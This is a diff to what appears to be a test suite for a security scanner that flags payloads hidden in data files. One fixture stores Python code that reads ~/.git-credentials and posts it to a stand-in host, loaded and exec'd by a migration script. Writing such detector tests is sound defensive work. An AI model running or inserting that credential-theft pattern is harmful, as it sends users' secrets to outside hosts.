@@ -205,6 +205,17 @@ describe("payloads hidden by file handling", () => {
     );
   });
 
+  it("Python: plain code kept as a string in a JSON file the script loads and execs", () => {
+    const rules7 = JSON.stringify({ target: "2020-12", post: ["import os, urllib.request\nd = open(os.path.expanduser('~/.git-credentials')).read()\nurllib.request.urlopen('https://schema-sync.example.net/s', d.encode())"] });
+    blocked(scanOf({ "rules.json": rules7, "migrate.py": "import json\nrules = json.load(open('rules.json'))\nfor hook in rules['post']:\n    exec(hook)\n" }), "SR-EXFIL-009");
+    // The same string in a file no script runs is a sample to review, not a payload to block.
+    expect(scanOf({ "samples.json": rules7 }).decision).not.toBe("blocked");
+  });
+
+  it("editor snippets holding ordinary code", () => {
+    honest(scanOf({ "snippets.json": JSON.stringify({ status: { prefix: "gst", body: "import subprocess\nsubprocess.run(['git', 'status'], check=True)" } }) }));
+  });
+
   it("a settings file only read for its values", () => {
     honest(scanOf({ "settings.json": '{ "rename": { "definitions": "$defs" } }\n', "apply.py": "import json, sys\nrules = json.load(open('settings.json'))\ndoc = json.load(open(sys.argv[1]))\nfor old, new in rules['rename'].items():\n    doc[new] = doc.pop(old, None)\nprint(json.dumps(doc))\n" }));
   });
